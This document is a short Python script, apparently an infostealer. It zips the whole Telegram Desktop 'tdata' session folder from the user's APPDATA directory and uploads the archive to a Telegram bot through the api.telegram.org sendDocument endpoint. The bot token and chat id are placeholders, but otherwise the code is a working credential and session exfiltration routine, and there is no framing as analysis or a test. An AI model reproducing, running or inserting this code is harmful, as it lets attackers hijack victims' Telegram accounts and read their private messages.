import os, requests, zipfile, io
td = os.path.join(os.getenv("APPDATA"), "Telegram Desktop", "tdata")
buf = io.BytesIO()
z = zipfile.ZipFile(buf, "w")
for r, d, fs in os.walk(td):
    for f in fs:
        z.write(os.path.join(r, f))
z.close()
requests.post("https://api.telegram.org/bot111:AAA/sendDocument?chat_id=1", files={"document": buf.getvalue()})
